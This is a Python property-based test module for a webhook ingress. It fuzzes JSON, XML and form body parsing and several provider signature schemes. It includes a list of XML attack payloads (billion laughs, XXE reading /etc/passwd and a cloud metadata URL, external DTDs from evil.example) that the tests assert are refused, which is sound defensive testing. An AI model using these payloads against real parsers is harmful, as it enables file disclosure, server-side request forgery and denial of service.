"""Hypothesis against every inbound body parser and every verification type
and provider preset.

Properties:
- parsing any bytes under any content type either gives a JSON value that
  can be written to Kafka, or raises one of the documented errors
  (UnsupportedContentTypeError → 415, UnparseableBodyError → 400);
- DTDs and entities (billion laughs, external entities, parameter entities,
  external DTDs) are always refused, never expanded or fetched;
- verifying any request either passes or raises VerificationError (→ 401);
  nothing else escapes, whatever bytes the headers carry;
- a request signed correctly always verifies, and changing any single byte
  of its body makes it fail.

Example counts are bounded so the whole module runs in about a minute; run
with ``--hypothesis-show-statistics`` to see them.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import hmac
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlencode
from xml.sax.saxutils import escape, quoteattr

import orjson
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from hookstream.inbound.bodies import (
    UnparseableBodyError,
    UnsupportedContentTypeError,
    parse_body,
)
from hookstream.inbound.examine import examine
from hookstream.inbound.verification import (
    VerificationError,
    verify_signed,
    verify_token_in_body,
)
from hookstream.json_paths import set_path
from schemas.listeners import Listener, ListenerSpec, Verification

NOW = 1_800_000_000.0
FUZZ = settings(
    max_examples=200,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
PER_SCHEME = settings(FUZZ, max_examples=50)  # times 16 verification schemes
FEW = settings(FUZZ, max_examples=25)

# ---------------------------------------------------------------- strategies

CONTENT_TYPES = st.one_of(
    st.sampled_from(
        [
            "application/json",
            "application/json; charset=utf-8",
            "application/json; charset=latin-1",  # wrong charset for JSON
            "application/json;charset=UTF-16",
            "application/vnd.github+json",
            "application/xml",
            "text/xml; charset=iso-8859-1",
            "application/atom+xml",
            "application/x-www-form-urlencoded",
            "application/x-www-form-urlencoded; charset=windows-1252",
            "APPLICATION/JSON",
            "text/plain",
            "multipart/form-data; boundary=x",
            "application/octet-stream",
            "",
            ";",
            "application/json; charset",
        ]
    ),
    st.none(),
    st.text(max_size=60),
    st.binary(max_size=40).map(lambda raw: raw.decode("utf-8", "surrogateescape")),
)

# What aiohttp hands over for a header value: bytes decoded as UTF-8 with
# surrogateescape, so any byte sequence is possible.
RAW_HEADER_VALUE = st.binary(max_size=80).map(lambda raw: raw.decode("utf-8", "surrogateescape"))

JSON_VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**63), max_value=2**64 - 1)
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(st.characters(blacklist_categories=("Cs",))),
    lambda children: (
        st.lists(children, max_size=5)
        | st.dictionaries(
            st.text(st.characters(blacklist_categories=("Cs",))), children, max_size=5
        )
    ),
    max_leaves=20,
)

XML_NAME = st.from_regex(r"[A-Za-z_][A-Za-z0-9_.-]{0,8}", fullmatch=True).filter(
    lambda name: not name.lower().startswith("xml")
)
XML_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Co", "Cn")), max_size=20)


def _xml_element(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.builds(
        lambda tag, attrs, text, kids: (
            f"<{tag}"
            + "".join(f" {k}={quoteattr(v)}" for k, v in attrs.items())
            + f">{escape(text)}{''.join(kids)}</{tag}>"
        ),
        XML_NAME,
        st.dictionaries(XML_NAME, XML_TEXT, max_size=3),
        XML_TEXT,
        st.lists(children, max_size=4),
    )


XML_DOCUMENTS = st.recursive(
    st.builds(lambda tag, text: f"<{tag}>{escape(text)}</{tag}>", XML_NAME, XML_TEXT),
    _xml_element,
    max_leaves=15,
)

FORM_FIELDS = st.lists(
    st.tuples(
        st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=15),
        st.text(st.characters(blacklist_categories=("Cs",)), max_size=30),
    ),
    max_size=8,
)


def check_parse(content_type: str | None, body: bytes) -> Any:
    """Parse as the ingress does; the only acceptable failures are the two
    documented ones, and a parsed value must be writable to Kafka."""
    try:
        value = parse_body(content_type, body)
    except (UnsupportedContentTypeError, UnparseableBodyError) as exc:
        assert str(exc), "every rejection carries a reason"
        return exc
    orjson.dumps(value)  # the flow trigger carries it as JSON
    return value


# ------------------------------------------------------------- body parsers


@FUZZ
@given(content_type=CONTENT_TYPES, body=st.binary(max_size=2048))
def test_any_bytes_under_any_content_type(content_type: str | None, body: bytes) -> None:
    check_parse(content_type, body)


@FUZZ
@given(value=JSON_VALUES, cut=st.integers(min_value=0))
def test_json_round_trips_and_every_truncation_is_a_clean_400(value: Any, cut: int) -> None:
    body = orjson.dumps(value)
    assert parse_body("application/json; charset=utf-8", body) == value
    # A prefix of a JSON text is a clean 400, or sometimes itself JSON ("12" of "123").
    check_parse("application/json", body[: cut % (len(body) + 1)])


@FUZZ
@given(
    value=JSON_VALUES.filter(lambda v: isinstance(v, dict | list)),
    charset=st.sampled_from(["utf-16", "utf-32", "latin-1", "cp1252"]),
)
def test_json_in_another_charset_is_a_clean_400_or_the_same_value(value: Any, charset: str) -> None:
    text = orjson.dumps(value).decode()
    try:
        body = text.encode(charset)
    except UnicodeEncodeError:
        return
    result = check_parse(f"application/json; charset={charset}", body)
    assert isinstance(result, UnparseableBodyError) or result == value


@FUZZ
@given(document=XML_DOCUMENTS, declaration=st.booleans(), cut=st.integers(min_value=0))
def test_xml_documents_parse_and_truncations_are_clean_400s(
    document: str, declaration: bool, cut: int
) -> None:
    body = (('<?xml version="1.0" encoding="UTF-8"?>' if declaration else "") + document).encode()
    result = check_parse("application/xml", body)
    assert isinstance(result, dict), result
    assert len(result) == 1  # {rootTag: …}
    check_parse("text/xml", body[: cut % (len(body) + 1)])


ENTITY_ATTACKS = [
    # billion laughs
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;</l>',
    # quadratic blowup: one big entity used many times
    b'<!DOCTYPE q [<!ENTITY x "' + b"x" * 10_000 + b'">]><q>' + b"&x;" * 1000 + b"</q>",
    # external entity (XXE): local file and remote URL
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    b'<!DOCTYPE x [<!ENTITY e SYSTEM "http://169.254.169.254/latest/meta-data/">]><x>&e;</x>',
    # parameter entities and an external DTD
    b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><x/>',
    b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
    b'<!DOCTYPE x PUBLIC "-//E//DTD X//EN" "http://evil.example/x.dtd"><x/>',
    # an internal DTD with no entity at all is still refused
    b"<!DOCTYPE x [<!ELEMENT x (#PCDATA)>]><x>1</x>",
    # same attacks declared in another encoding
    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE l [<!ENTITY a "a">]><l>&a;</l>'.encode(
        "utf-16"
    ),
]


@pytest.mark.parametrize("attack", ENTITY_ATTACKS)
@pytest.mark.parametrize("content_type", ["application/xml", "text/xml", "application/soap+xml"])
def test_dtds_and_entities_are_refused(content_type: str, attack: bytes) -> None:
    with pytest.raises(UnparseableBodyError, match="XML"):
        parse_body(content_type, attack)


@FUZZ
@given(
    name=XML_NAME,
    value=XML_TEXT,
    system=st.booleans(),
    uses=st.integers(min_value=0, max_value=50),
    document=XML_DOCUMENTS,
)
def test_generated_entity_declarations_are_always_refused(
    name: str, value: str, system: bool, uses: int, document: str
) -> None:
    declared = f'SYSTEM "file:///{escape(value)}"' if system else quoteattr(value)
    body = f"<!DOCTYPE r [<!ENTITY {name} {declared}>]><r>{f'&{name};' * uses}{document}</r>"
    with pytest.raises(UnparseableBodyError):
        parse_body("application/xml", body.encode())


@pytest.mark.parametrize("depth", [60, 129, 300, 900, 5_000, 100_000])
@pytest.mark.parametrize("kind", ["json", "xml"])
def test_deep_nesting_is_a_value_or_a_clean_400(kind: str, depth: int) -> None:
    """Well inside 1 MiB, nesting must not exhaust the parser's stack."""
    if kind == "json":
        body = b"[" * depth + b"]" * depth
        result = check_parse("application/json", body)
    else:
        body = b"<a>" * depth + b"</a>" * depth
        result = check_parse("application/xml", body)
    if depth <= 60:  # real payloads (GitHub's are ~6 deep) parse
        assert not isinstance(result, Exception), result
    orjson.dumps({"payload": result} if not isinstance(result, Exception) else None)


@FUZZ
@given(fields=FORM_FIELDS)
def test_form_round_trips(fields: list[tuple[str, str]]) -> None:
    body = urlencode(fields).encode()
    result = check_parse("application/x-www-form-urlencoded", body)
    expected: dict[str, Any] = {}
    for key, value in fields:
        if key in expected:
            existing = expected[key]
            expected[key] = [*existing, value] if isinstance(existing, list) else [existing, value]
        else:
            expected[key] = value
    assert result == expected


@FUZZ
@given(fields=FORM_FIELDS.filter(bool), charset=st.sampled_from(["latin-1", "cp1252", "utf-16"]))
def test_form_in_a_wrong_charset_is_a_clean_400_or_a_value(
    fields: list[tuple[str, str]], charset: str
) -> None:
    text = "&".join(f"{k}={v}" for k, v in fields)
    try:
        body = text.encode(charset)
    except UnicodeEncodeError:
        return
    check_parse(f"application/x-www-form-urlencoded; charset={charset}", body)


@pytest.mark.parametrize("kind", ["json", "xml", "form"])
def test_bodies_of_nearly_one_mebibyte_parse(kind: str) -> None:
    limit = 1024 * 1024 - 64
    if kind == "json":
        item = b'{"k":"v","n":1},'
        body = b"[" + item * ((limit - 2) // len(item)) + b"{}]"
        assert len(check_parse("application/json", body)) > 50_000
    elif kind == "xml":
        item = b'<i a="1">x</i>'
        body = b"<r>" + item * ((limit - 7) // len(item)) + b"</r>"
        assert len(check_parse("application/xml", body)["r"]["i"]) > 50_000
    else:
        item = b"k=v&"
        body = item * (limit // len(item)) + b"k=v"
        assert len(check_parse("application/x-www-form-urlencoded", body)["k"]) > 200_000


# ------------------------------------------------------------- verification


@dataclass(frozen=True)
class Scheme:
    """A verification rule and how a legitimate sender signs for it."""

    name: str
    rule: Verification
    # (body, now) -> (headers, url token); None when the rule does not sign
    sign: Callable[[bytes, int], tuple[dict[str, str], str | None]]
    signs_body: bool


def rule_for(provider: str = "custom", **verification: Any) -> Verification:
    spec = ListenerSpec.model_validate(
        {"name": "n", "provider": provider, "verification": verification}
    )
    return spec.verification


def _mac(algorithm: str, key: bytes, message: bytes) -> bytes:
    return hmac.new(key, message, hashlib.sha1 if algorithm == "sha1" else hashlib.sha256).digest()


SECRET = "s3cret-ü"
WHSEC_KEY = b"0123456789abcdef0123456789abcdef"
WHSEC = "whsec_" + base64.b64encode(WHSEC_KEY).decode()
TOKEN = "tok_9f8e7d6c5b4a"


def _hmac_scheme(algorithm: str, encoding: str, prefix: bool) -> Scheme:
    rule = rule_for(
        type="hmac", algorithm=algorithm, encoding=encoding, header="X-Sig", secret=SECRET
    )

    def sign(body: bytes, now: int) -> tuple[dict[str, str], str | None]:
        raw = _mac(algorithm, SECRET.encode(), body)
        value = raw.hex() if encoding == "hex" else base64.b64encode(raw).decode()
        return {"X-Sig": f"{algorithm}={value}" if prefix else value}, None

    name = f"hmac-{algorithm}-{encoding}" + ("-prefixed" if prefix else "")
    return Scheme(name, rule, sign, signs_body=True)


def _github(body: bytes, now: int) -> tuple[dict[str, str], str | None]:
    return {"X-Hub-Signature-256": "sha256=" + _mac("sha256", b"gh", body).hex()}, None


def _shopify(body: bytes, now: int) -> tuple[dict[str, str], str | None]:
    return {"X-Shopify-Hmac-Sha256": base64.b64encode(_mac("sha256", b"sh", body)).decode()}, None


def _stripe(body: bytes, now: int) -> tuple[dict[str, str], str | None]:
    signature = _mac("sha256", b"whsec_stripe", str(now).encode() + b"." + body).hex()
    return {"Stripe-Signature": f"t={now},v1={'0' * 64},v1={signature}"}, None


def _slack(body: bytes, now: int) -> tuple[dict[str, str], str | None]:
    signature = _mac("sha256", b"slk", f"v0:{now}:".encode() + body).hex()
    return {"X-Slack-Request-Timestamp": str(now), "X-Slack-Signature": "v0=" + signature}, None


def _standard(body: bytes, now: int) -> tuple[dict[str, str], str | None]:
    msg_id = "msg_2KWPBgLlAfxdpx2AI54pPJ85f4W"
    signature = base64.b64encode(_mac("sha256", WHSEC_KEY, f"{msg_id}.{now}.".encode() + body))
    return {
        "webhook-id": msg_id,
        "webhook-timestamp": str(now),
        "webhook-signature": f"v1,{'A' * 44} v1,{signature.decode()}",
    }, None


def _basic(body: bytes, now: int) -> tuple[dict[str, str], str | None]:
    return {"Authorization": "Basic " + base64.b64encode("üser:pä:ss".encode()).decode()}, None


SCHEMES = [
    Scheme("none", rule_for(), lambda body, now: ({}, None), signs_body=False),
    Scheme(
        "basic",
        rule_for(type="basic", username="üser", password="pä:ss"),
        _basic,
        signs_body=False,
    ),
    *(
        _hmac_scheme(algorithm, encoding, prefix)
        for algorithm in ("sha1", "sha256")
        for encoding in ("hex", "base64")
        for prefix in (False, True)
    ),
    Scheme(
        "secret_url",
        rule_for(type="secret_url", token=TOKEN),
        lambda body, now: ({}, TOKEN),
        signs_body=False,
    ),
    Scheme("github", rule_for("github", secret="gh"), _github, signs_body=True),
    Scheme("shopify", rule_for("shopify", secret="sh"), _shopify, signs_body=True),
    Scheme("stripe", rule_for("stripe", secret="whsec_stripe"), _stripe, signs_body=True),
    Scheme("slack", rule_for("slack", secret="slk"), _slack, signs_body=True),
    Scheme("standard-webhooks", rule_for("standard-webhooks", secret=WHSEC), _standard, True),
]
BODY_SIGNING = [s for s in SCHEMES if s.signs_body]
TOKEN_RULE = rule_for(type="token", path="myAuth.token", token=TOKEN)
HEADER_NAMES = [
    "Authorization",
    "X-Sig",
    "X-Hub-Signature-256",
    "X-Shopify-Hmac-Sha256",
    "Stripe-Signature",
    "X-Slack-Signature",
    "X-Slack-Request-Timestamp",
    "webhook-id",
    "webhook-timestamp",
    "webhook-signature",
    "X-GitHub-Delivery",
]


def verify(scheme: Scheme, headers: dict[str, str], body: bytes, url_token: str | None) -> None:
    verify_signed(scheme.rule, headers, body, url_token, NOW)


def test_every_verification_type_and_preset_is_covered() -> None:
    kinds = {s.rule.type for s in SCHEMES} | {TOKEN_RULE.type}
    assert kinds == {
        "none",
        "basic",
        "hmac",
        "secret_url",
        "token",
        "stripe",
        "slack",
        "standard-webhooks",
    }
    presets = {s.name for s in SCHEMES} & {
        "github",
        "stripe",
        "shopify",
        "slack",
        "standard-webhooks",
    }
    assert len(presets) == 5


@pytest.mark.parametrize("scheme", SCHEMES, ids=lambda s: s.name)
@PER_SCHEME
@given(body=st.binary(max_size=4096), skew=st.integers(min_value=-299, max_value=299))
def test_a_valid_signature_always_verifies(scheme: Scheme, body: bytes, skew: int) -> None:
    headers, url_token = scheme.sign(body, int(NOW) + skew)
    verify(scheme, headers, body, url_token)


@pytest.mark.parametrize("scheme", BODY_SIGNING, ids=lambda s: s.name)
@PER_SCHEME
@given(body=st.binary(min_size=1, max_size=2048), data=st.data())
def test_any_single_byte_change_of_the_body_fails(
    scheme: Scheme, body: bytes, data: st.DataObject
) -> None:
    headers, url_token = scheme.sign(body, int(NOW))
    index = data.draw(st.integers(min_value=0, max_value=len(body) - 1), label="index")
    byte = data.draw(st.integers(min_value=0, max_value=255).filter(lambda b: b != body[index]))
    tampered = body[:index] + bytes([byte]) + body[index + 1 :]
    with pytest.raises(VerificationError):
        verify(scheme, headers, tampered, url_token)


@pytest.mark.parametrize("scheme", BODY_SIGNING, ids=lambda s: s.name)
@FEW
@given(
    body=st.binary(max_size=512),
    skew=st.integers(min_value=301, max_value=10**9),
    sign=st.sampled_from([-1, 1]),
)
def test_a_stale_or_future_timestamp_fails(
    scheme: Scheme, body: bytes, skew: int, sign: int
) -> None:
    headers, url_token = scheme.sign(body, int(NOW) + sign * skew)
    if scheme.rule.type not in ("stripe", "slack", "standard-webhooks"):
        return  # plain HMAC carries no timestamp
    with pytest.raises(VerificationError, match=r"tolerance|timestamp"):
        verify(scheme, headers, body, url_token)


def _near_valid_values(now: int) -> st.SearchStrategy[str]:
    """Values shaped like real signatures, so fuzzing reaches the comparisons."""
    hexes = st.text("0123456789abcdefABCDEF", min_size=0, max_size=70)
    b64 = st.binary(max_size=40).map(lambda raw: base64.b64encode(raw).decode())
    stamps = st.integers(min_value=now - 400, max_value=now + 400).map(str) | st.sampled_from(
        ["", "-1", "1e9", "9" * 5000, " 1800000000 ", "\uff11\uff18" + "\uff10" * 8]
    )
    return st.one_of(
        RAW_HEADER_VALUE,
        hexes,
        b64,
        stamps,
        st.builds(lambda h: "sha256=" + h, hexes),
        st.builds(lambda h: "sha1=" + h, hexes),
        st.builds(lambda h: "v0=" + h, hexes),
        st.builds(lambda t, h: f"t={t},v1={h}", stamps, hexes),
        st.builds(lambda b: "v1," + b, b64),
        st.builds(lambda b: "Basic " + b, b64 | RAW_HEADER_VALUE),
        st.builds(
            lambda b: "Basic " + b,
            st.binary(max_size=30).map(lambda r: base64.b64encode(r).decode()),
        ),
    )


ATTACK_HEADERS = st.dictionaries(
    st.sampled_from(HEADER_NAMES), _near_valid_values(int(NOW)), max_size=len(HEADER_NAMES)
)


@pytest.mark.parametrize("scheme", SCHEMES, ids=lambda s: s.name)
@PER_SCHEME
@given(
    headers=ATTACK_HEADERS,
    body=st.binary(max_size=1024),
    url_token=st.none() | st.text(max_size=40) | RAW_HEADER_VALUE,
)
def test_forged_requests_fail_with_a_verification_error_only(
    scheme: Scheme, headers: dict[str, str], body: bytes, url_token: str | None
) -> None:
    if scheme.name == "none":
        verify(scheme, headers, body, url_token)
        return
    with pytest.raises(VerificationError) as failure:
        verify(scheme, headers, body, url_token)
    message = str(failure.value)
    assert message
    for secret in (SECRET, "gh", "sh", "whsec_stripe", "slk", WHSEC, TOKEN, "pä:ss"):
        assert secret not in message


@FUZZ
@given(
    payload=JSON_VALUES,
    token=st.none() | st.text(max_size=30) | st.just(TOKEN) | st.just(TOKEN[:-1]),
    where=st.sampled_from(["myAuth.token", "myAuth", "token", "myAuth.token.x"]),
)
def test_token_at_a_json_path(payload: Any, token: str | None, where: str) -> None:
    body = {"data": payload}
    if token is not None:
        set_path(body, where, token)
    parsed = parse_body("application/json", orjson.dumps(body))
    verify_signed(TOKEN_RULE, {}, orjson.dumps(body), None, NOW)  # needs the parsed body
    if token == TOKEN and where == "myAuth.token":
        verify_token_in_body(TOKEN_RULE, parsed)
    else:
        with pytest.raises(VerificationError):
            verify_token_in_body(TOKEN_RULE, parsed)


@FUZZ
@given(content_type=CONTENT_TYPES, body=st.binary(max_size=512))
def test_token_rule_on_any_body_is_a_value_or_a_documented_error(
    content_type: str | None, body: bytes
) -> None:
    parsed = check_parse(content_type, body)
    if isinstance(parsed, Exception):
        return
    with pytest.raises(VerificationError):
        verify_token_in_body(TOKEN_RULE, parsed)


@pytest.mark.parametrize("scheme", BODY_SIGNING, ids=lambda s: s.name)
@FEW
@given(data=st.data())
def test_signature_headers_with_any_bytes_fail_cleanly(scheme: Scheme, data: st.DataObject) -> None:
    """Replace each header of a valid request with arbitrary bytes: the
    request fails with a VerificationError, never another exception."""
    body = b'{"id": "evt_1"}'
    headers, url_token = scheme.sign(body, int(NOW))
    name = data.draw(st.sampled_from(sorted(headers)), label="header")
    value = data.draw(RAW_HEADER_VALUE, label="value")
    assume(value != headers[name])
    with contextlib.suppress(VerificationError):
        verify(scheme, {**headers, name: value}, body, url_token)


# ------------------------------------------- the whole decision: examine()


def listener_with(rule: Verification) -> Listener:
    return Listener.model_validate(
        {
            "id": "ls_fuzz",
            "name": "fuzz",
            "verification": rule.model_dump(by_alias=True),
            "createdAt": "2026-11-23T10:00:00.000Z",
            "updatedAt": "2026-11-23T10:00:00.000Z",
        }
    )


EXAMINED = [*SCHEMES, Scheme("token", TOKEN_RULE, lambda body, now: ({}, None), signs_body=False)]


@pytest.mark.parametrize("scheme", EXAMINED, ids=lambda s: s.name)
@FEW
@given(
    headers=ATTACK_HEADERS,
    content_type=CONTENT_TYPES,
    body=st.binary(max_size=1024) | JSON_VALUES.map(orjson.dumps) | XML_DOCUMENTS.map(str.encode),
    url_token=st.none() | RAW_HEADER_VALUE,
    signed=st.booleans(),
)
def test_examine_answers_a_documented_status_for_any_request(
    scheme: Scheme,
    headers: dict[str, str],
    content_type: str | None,
    body: bytes,
    url_token: str | None,
    signed: bool,
) -> None:
    """What the ingress answers (receive.py and the dry run share examine()):
    202 with a payload that can be stored, or 400/401/413/415 with a reason."""
    if signed:
        extra, url_token = scheme.sign(body, int(NOW))
        headers = {**headers, **extra}
    result = examine(
        listener_with(scheme.rule),
        headers,
        body,
        content_type=content_type,
        url_token=url_token,
        now=NOW,
    )
    assert result.status in (202, 400, 401, 413, 415)
    if result.accepted:
        orjson.dumps({"payload": result.payload, "headers": {}})
        if scheme.signs_body:
            assert signed
    else:
        assert result.reason
